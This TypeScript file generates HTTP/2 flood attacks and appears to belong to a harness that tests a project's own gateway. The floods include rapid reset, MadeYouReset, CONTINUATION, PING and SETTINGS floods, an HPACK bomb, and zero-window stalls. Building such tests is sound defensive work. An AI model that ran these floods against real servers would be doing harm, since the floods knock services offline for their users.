// The frames of each flood. An attack makes the next piece to send; it is asked again and again, as fast as the peer takes them.
import { clientPreface, errorCode, flag, frameType, setting } from '../../../gateway/edge/http2/constants.ts';
import { block, frame, settings, uint32, windowUpdate } from '../h2/frames.ts';
import type { FloodKind } from './floods.ts';

/** Frames, and how many; null: nothing more to send for now. */
export interface Piece {
  readonly bytes: Buffer;
  readonly frames: number;
}

export interface Attack {
  /** Sent first. */
  readonly opening: Buffer;
  readonly next: () => Piece | null;
}

const plainOpening = Buffer.concat([clientPreface, settings([])]);
const batch = 64;
const none = Buffer.alloc(0);

function repeated(bytes: Buffer, opening: Buffer = plainOpening, framesEach = 1): Attack {
  const piece: Piece = { bytes: Buffer.concat(Array.from({ length: batch }, () => bytes)), frames: batch * framesEach };
  return { opening, next: () => piece };
}

/** A stream each. */
function streams(make: (id: number) => Buffer, framesEach: number): Attack {
  let id = 1;
  return {
    opening: plainOpening,
    next: () => {
      const parts: Buffer[] = [];
      for (let i = 0; i < batch; i++, id += 2) parts.push(make(id));
      return { bytes: Buffer.concat(parts), frames: batch * framesEach };
    },
  };
}

function headers(id: number, head: Buffer, flags: number): Buffer {
  return frame(frameType.headers, flags, id, head);
}

/** The body that is sent with a request whose answer is not taken: within the window that every server gives. */
const untakenBytes = 600;
const untakenStreams = 90;

function untaken(head: Buffer, then: () => Piece | null): Attack {
  const message = Buffer.alloc(untakenBytes);
  message.writeUInt32BE(untakenBytes - 5, 1);
  let sent = false;
  return {
    opening: Buffer.concat([clientPreface, settings([[setting.initialWindowSize, 0]])]),
    next: () => {
      if (sent) return then();
      sent = true;
      const requests = Array.from({ length: untakenStreams }, (_, index) => [headers(index * 2 + 1, head, flag.endHeaders), frame(frameType.data, flag.endStream, index * 2 + 1, message)]);
      return { bytes: Buffer.concat(requests.flat()), frames: requests.length * 2 };
    },
  };
}

function bomb(head: Buffer): Attack {
  const value = Buffer.alloc(4000, 'x');
  // With incremental indexing: name `b`, a value of 4,000 bytes (its length by RFC 7541 §5.1).
  const insert = Buffer.concat([Buffer.from([0x40, 1, 0x62, 0x7f, (4000 - 127) % 128 | 0x80, Math.floor((4000 - 127) / 128)]), value]);
  const references = Buffer.concat([head, Buffer.alloc(15_000, 0xbe)]);
  let id = 1;
  return {
    opening: Buffer.concat([plainOpening, headers(id, Buffer.concat([head, insert]), flag.endHeaders | flag.endStream)]),
    next: () => {
      id += 2;
      return { bytes: headers(id, references, flag.endHeaders | flag.endStream), frames: 1 };
    },
  };
}

export function attackOf(kind: FloodKind, fields: readonly (readonly [string, string])[]): Attack {
  const head = block(fields);
  switch (kind) {
    case 'nothing':
      return { opening: none, next: () => null };
    case 'rapid reset':
      return streams((id) => Buffer.concat([headers(id, head, flag.endHeaders), frame(frameType.rstStream, 0, id, uint32(errorCode.cancel))]), 2);
    case 'MadeYouReset':
      // A WINDOW_UPDATE of 0 is a stream error (RFC 9113 §6.9).
      return streams((id) => Buffer.concat([headers(id, head, flag.endHeaders), windowUpdate(id, 0)]), 2);
    case 'CONTINUATION':
      return repeated(frame(frameType.continuation, 0, 1, block([['x-a', 'b']])), Buffer.concat([plainOpening, headers(1, head, 0)]));
    case 'PING':
      return repeated(frame(frameType.ping, 0, 0, Buffer.alloc(8, 'f')));
    case 'SETTINGS':
      return repeated(settings([[setting.headerTableSize, 4096]]));
    case 'empty DATA':
      return repeated(frame(frameType.data, 0, 1, none), Buffer.concat([plainOpening, headers(1, head, flag.endHeaders)]));
    case 'WINDOW_UPDATE':
      return repeated(windowUpdate(0, 1));
    case 'unknown frames':
      return repeated(frame(0xfe, 0, 0, none));
    case 'acknowledgements':
      return repeated(Buffer.concat([frame(frameType.settings, flag.ack, 0, none), frame(frameType.ping, flag.ack, 0, Buffer.alloc(8))]), plainOpening, 2);
    case 'repeated resets':
      return repeated(frame(frameType.rstStream, 0, 1, uint32(errorCode.cancel)), Buffer.concat([plainOpening, headers(1, head, flag.endHeaders)]));
    case 'PRIORITY':
      return streams((id) => frame(frameType.priority, 0, id, Buffer.from([0, 0, 0, 0, 16])), 1);
    case 'HPACK bomb':
      return bomb(head);
    case 'zero window':
      return untaken(head, () => null);
    case '1-byte windows': {
      const credit = Buffer.concat(Array.from({ length: untakenStreams }, (_, index) => windowUpdate(index * 2 + 1, 1)));
      return untaken(head, () => ({ bytes: credit, frames: untakenStreams }));
    }
    case 'unfinished prefaces':
      return { opening: clientPreface.subarray(0, 10), next: () => null };
  }
}
